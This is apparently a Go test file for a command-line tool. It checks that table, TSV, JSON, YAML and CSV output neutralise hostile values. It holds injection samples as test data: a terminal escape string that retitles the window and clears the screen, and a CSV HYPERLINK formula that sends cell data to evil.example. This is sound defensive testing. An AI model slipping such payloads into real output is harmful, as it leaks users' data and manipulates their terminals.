package output

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/axero-cli/axero/internal/iostreams"
	"github.com/axero-cli/axero/internal/textsafe"
)

// hostileName retitles the window, clears the screen, uses a C1 CSI and
// DEL, and breaks the line: everything a lying server might put in a name.
const hostileName = "evil\x1b]0;pwned\a\x1b[2J\u009b31m\x7f\nsecond\tline\xff"

func hostileTable(bool) TableData {
	return TableData{Headers: []string{"ID", "NAME"}, Rows: [][]string{{"1", hostileName}}}
}

func hasRawControl(s string) bool {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0xfffd {
			return true
		}
	}
	return false
}

func TestTableAndTSVEscapeControlCharacters(t *testing.T) {
	for _, tty := range []bool{true, false} {
		ios, _, out, _ := iostreams.Test()
		ios.SetStdoutTTY(tty)
		if err := Print(ios, Options{}, nil, hostileTable); err != nil {
			t.Fatal(err)
		}
		got := out.String()
		if hasRawControl(got) || strings.Contains(got, "\x1b") {
			t.Errorf("tty=%v: raw control characters reached the output: %q", tty, got)
		}
		if !strings.Contains(got, `evil\x1b]0;pwned\x07\x1b[2J\u009b31m\x7f\nsecond\tline\xff`) {
			t.Errorf("tty=%v: the name is not shown escaped: %q", tty, got)
		}
		wantLines := 1
		if tty {
			wantLines = 2 // the header
		}
		if n := strings.Count(got, "\n"); n != wantLines {
			t.Errorf("tty=%v: the record spans %d lines: %q", tty, n, got)
		}
	}
}

func TestTableKeepsOwnColourButEscapesInside(t *testing.T) {
	ios, _, out, _ := iostreams.Test()
	ios.SetStdoutTTY(true)
	ios.SetColorEnabled(true)
	cell := Color(ios, "purple", "imp\x1b[2J")
	if err := Print(ios, Options{}, nil, func(bool) TableData {
		return TableData{Headers: []string{"TYPE"}, Rows: [][]string{{cell}}}
	}); err != nil {
		t.Fatal(err)
	}
	if want := ansi["purple"] + `imp\x1b[2J` + ansiReset; !strings.Contains(out.String(), want) {
		t.Errorf("got %q, want it to contain %q", out.String(), want)
	}
}

func TestJSONAndYAMLKeepExactValues(t *testing.T) {
	rec := []sampleToken{{TokenID: 1, Name: hostileName}}
	ios, _, out, _ := iostreams.Test()
	if err := Print(ios, Options{Format: "json"}, rec, hostileTable); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "\x1b") {
		t.Errorf("JSON carries a raw escape: %q", out.String())
	}
	var back []sampleToken
	if err := json.Unmarshal(out.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	// encoding/json turns the invalid byte into U+FFFD; everything else is exact.
	if want := strings.ToValidUTF8(hostileName, "\uFFFD"); len(back) != 1 || back[0].Name != want {
		t.Errorf("JSON changed the value: %+v", back)
	}
	ios, _, out, _ = iostreams.Test()
	if err := Print(ios, Options{Format: "yaml"}, rec, hostileTable); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out.String(), "\x1b") {
		t.Errorf("YAML carries a raw escape: %q", out.String())
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	cells := []string{`=HYPERLINK("http://evil.example/?"&F2,"open")`, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=already", "plain", ""}
	ios, _, out, _ := iostreams.Test()
	if err := Print(ios, Options{Format: "csv"}, nil, func(bool) TableData {
		return TableData{Headers: []string{"-H"}, Rows: [][]string{cells}}
	}); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(out.String()))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 2 || records[0][0] != "-H" {
		t.Fatalf("header changed or rows lost: %q", records)
	}
	for i, got := range records[1] {
		if got != "" && got != "plain" && got[0] != '\'' {
			t.Errorf("cell %q is not neutralised: %q", cells[i], got)
		}
		if textsafe.Terminal(cells[i]) != cells[i] {
			// A control character is shown escaped, as in TSV; the
			// formula guard still comes first.
			if want := "'" + textsafe.Terminal(cells[i]); got != want {
				t.Errorf("cell %q: got %q, want %q", cells[i], got, want)
			}
			continue
		}
		if back := textsafe.CSVUncell(got); back != cells[i] {
			t.Errorf("cell %q does not round-trip: %q", cells[i], back)
		}
	}
}
